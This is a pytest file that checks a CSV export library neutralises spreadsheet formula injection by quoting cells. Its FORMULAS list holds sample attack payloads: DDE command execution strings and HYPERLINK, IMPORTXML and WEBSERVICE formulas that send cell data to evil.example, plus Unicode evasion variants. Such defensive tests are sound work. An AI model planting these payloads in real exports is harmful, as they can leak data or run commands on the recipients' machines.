"""Sixty cells: what a spreadsheet would run becomes text, and everything else stays what it is."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from corral_data_exports.cells import cell
from corral_data_exports.encoding import encoder

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"your invoice")',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    "+1+1",
    "+436601234567",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-5.20",
    "@SUM(A1:A9)",
    "@example",
    " =1+1",
    "   =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{IDEOGRAPHIC SPACE}+1",
    "\N{THIN SPACE}@SUM(1)",
    "\N{ZERO WIDTH SPACE}=1+1",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1+1",
    "\N{RIGHT-TO-LEFT MARK}=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\rplain",
    "\n=1+1",
    "\r\n@SUM(1)",
    " \t=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1+1",
    "\N{FULLWIDTH HYPHEN-MINUS}1+1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    " \N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{SMALL EQUALS SIGN}1+1",
    "\N{SMALL COMMERCIAL AT}SUM(1)",
    "\N{SUPERSCRIPT PLUS SIGN}1",
    "\N{MINUS SIGN}1+1",
    "=",
    "-",
    "@",
]

PLAIN = [
    ("", ""),
    ("Ada", "Ada"),
    ("1=1", "1=1"),
    ("a@example.org", "a@example.org"),
    ("'=1+1", "'=1+1"),
    ("#1", "#1"),
    ("ÄÖÜ €", "ÄÖÜ €"),
    ('say "=1+1"', 'say "=1+1"'),
    (None, ""),
    (True, "true"),
    (-5, "-5"),
    (-5.25, "-5.25"),
    (Decimal("-5.20"), "-5.20"),
    (-1e22, "-1e+22"),
    (float("-inf"), ""),
    (Decimal("NaN"), ""),
    (datetime(2027, 1, 2, 3, 4, 5, tzinfo=UTC), "2027-01-02T03:04:05Z"),
    (UUID(int=7), "00000000-0000-0000-0000-000000000007"),
]

OTHERS = [
    (timedelta(days=-1), "'-P1D"),
    (b"\xfb\xff", "'-_8="),
    (["=1+1"], '["=1+1"]'),
    ({"a": date(2027, 1, 2)}, '{"a":"2027-01-02"}'),
]


def test_they_are_sixty() -> None:
    assert len(FORMULAS) + len(PLAIN) == 60


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_formula_becomes_text(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize(("value", "text"), PLAIN, ids=ascii)
def test_what_is_none_is_left_alone_and_numbers_stay_numbers(value: object, text: str) -> None:
    assert cell(value) == text


@pytest.mark.parametrize(("value", "text"), OTHERS, ids=ascii)
def test_what_is_no_text_is_written_as_text_and_checked_like_text(value: object, text: str) -> None:
    assert cell(value) == text


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_header_and_a_line_that_hold_it_are_read_as_text(text: str) -> None:
    """As a reader of the file has them, quoted where they must be."""
    table = encoder("csv", None)
    written = (table.record({text: text, "n": -1}) + table.end()).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(written, newline=""))) == [
        [f"'{text}", "n"],
        [f"'{text}", "-1"],
    ]


@given(st.text(max_size=8))
def test_no_text_comes_out_as_a_formula(text: str) -> None:
    made = cell(text)
    assert made in {text, f"'{text}"}
    assert not made.strip().startswith(("=", "+", "-", "@"))


@given(
    st.one_of(
        st.integers(),
        st.floats(allow_nan=False, allow_infinity=False),
        st.decimals(allow_nan=False),
    )
)
def test_a_finite_number_is_a_number(value: float | Decimal) -> None:
    made = cell(value)
    assert (
        (not made)
        if value in (Decimal("Infinity"), Decimal("-Infinity"))
        else type(value)(made) == value
    )
